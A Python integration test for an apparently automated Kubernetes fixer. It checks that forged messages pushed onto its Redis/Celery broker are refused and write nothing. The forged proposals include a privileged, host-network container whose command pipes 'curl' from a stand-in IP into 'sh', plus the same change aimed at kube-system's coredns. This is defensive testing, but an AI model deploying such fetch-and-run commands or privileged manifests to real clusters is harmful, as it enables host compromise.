"""Messages pushed straight onto the farm's broker, as anyone who reaches Redis could.

The real farm (worker, beat, web) plays image-typo-storefront to its fix; then a
plain Celery client — not aifixer's — sends `apply` messages to the `cluster` queue:
one carrying a manifest, and others naming incident records written into Redis beside
the real one (a privileged change to the storefront, the same change moved to
kube-system, another Deployment). The worker takes each, and none writes anything.
"""

from __future__ import annotations

import copy
import json
import time
from datetime import UTC, datetime

import kubernetes
import pytest
from celery import Celery

from aifixer import manifests
from aifixer.adapters.kube import Kube
from aifixer.settings import Settings
from aifixer_sandbox import scenario as scenario_mod
from aifixer_sandbox.harness import FarmRun

pytestmark = [pytest.mark.integration, pytest.mark.scenario, pytest.mark.timeout(600)]

NS, NAME = "web", "storefront"


def _poisoned(state, ms: int, live: dict, edit):
    """A record for a new incident at the stage apply acts on, as if diagnosed on the
    live Deployment (so that nothing but the check of the change itself can refuse it),
    its proposal edited."""
    forged = state.model_copy(deep=True)
    forged.evidence.deployment = copy.deepcopy(live)
    forged.proposal.manifest = copy.deepcopy(live)
    forged.incident.id = f"{state.incident.fingerprint}-{ms}"
    forged.stage = "patched"
    for name in ("apply", "verification", "pull_request", "outcome", "error", "closed_at"):
        setattr(forged, name, None)
    forged.calls, forged.attempts = [], []
    edit(forged)
    return forged


def _privileged(state) -> None:
    pod = state.proposal.manifest["spec"]["template"]["spec"]
    pod["hostNetwork"] = True
    pod["containers"][0]["securityContext"] = {"privileged": True}
    pod["containers"][0]["command"] = ["sh", "-c", "curl -s http://203.0.113.9/x | sh"]


def _moved(namespace: str, name: str):
    def edit(state) -> None:
        _privileged(state)
        state.incident.workload.namespace = namespace
        state.incident.workload.name = name
        state.proposal.manifest["metadata"].update(namespace=namespace, name=name)

    return edit


def test_messages_pushed_onto_the_broker_write_nothing(tmp_path) -> None:
    sc = scenario_mod.load(scenario_mod.bundled_dir() / "image-typo-storefront.yaml")
    with FarmRun(sc, tmp_path / "run", speed=30) as run:
        states = run.wait(timeout=300)
        assert [s.outcome for s in states] == ["fixed"], json.dumps(run.report(states))
        kube = Kube(Settings(_env_file=None, kubeconfig=run.world.endpoints.kubeconfig))
        before = manifests.clean(kube.get_deployment(NS, NAME))
        apps = kubernetes.client.AppsV1Api(
            kubernetes.config.new_client_from_config(str(run.world.endpoints.kubeconfig))
        )

        def system() -> list:
            listed = apps.list_namespaced_deployment("kube-system").items
            return [(d.metadata.name, d.metadata.generation) for d in listed]

        system_before = system()

        ms = int(datetime.now(UTC).timestamp() * 1000)
        forged = [
            _poisoned(states[0], ms + 1, before, _privileged),
            _poisoned(states[0], ms + 2, before, _moved("kube-system", "coredns")),
            _poisoned(states[0], ms + 3, before, _moved(NS, "payments")),
        ]
        for state in forged:
            run.ctx.redis.set(run.ctx.store.key("incident", state.incident.id),
                              state.model_dump_json())  # fmt: skip

        client = Celery(broker=run.env["AIFIXER_REDIS_URL"])
        manifest = copy.deepcopy(before)
        manifest["metadata"]["namespace"] = "kube-system"
        messages = [[{"manifest": manifest}], *([s.incident.id] for s in forged)]
        for args in messages:
            client.send_task("aifixer.tasks.apply", args=args, queue="cluster")

        def taken() -> list:
            records = [run.ctx.store.load(s.incident.id) for s in forged]
            return [r for r in records if r is not None and r.stage != "patched"]

        deadline = time.monotonic() + 120
        while len(taken()) < len(forged) and time.monotonic() < deadline:
            time.sleep(0.5)
        records = taken()
        assert len(records) == len(forged), "the worker never took the pushed messages"
        for record in records:
            assert record.apply is None, record.incident.id
            assert record.error and "apply" in record.error, record.error
        reasons = " | ".join(r.error for r in records)
        assert "refused immediately before writing" in reasons
        assert "never changed by aifixer" in reasons  # kube-system
        assert "payments" in reasons

        after = manifests.clean(kube.get_deployment(NS, NAME))
        assert after == before  # the storefront as its fix left it
        pod = after["spec"]["template"]["spec"]
        assert not pod.get("hostNetwork") and "securityContext" not in pod["containers"][0]
        assert system() == system_before  # nothing created or changed in kube-system
        assert not [
            d.metadata.name
            for d in apps.list_namespaced_deployment(NS).items
            if d.metadata.name == "payments"
        ]
        log = "\n".join(
            p.read_text(errors="replace") for p in (tmp_path / "run" / "logs").glob("*.log")
        )
        assert "refused a message that names no incident" in log
        kube.close()
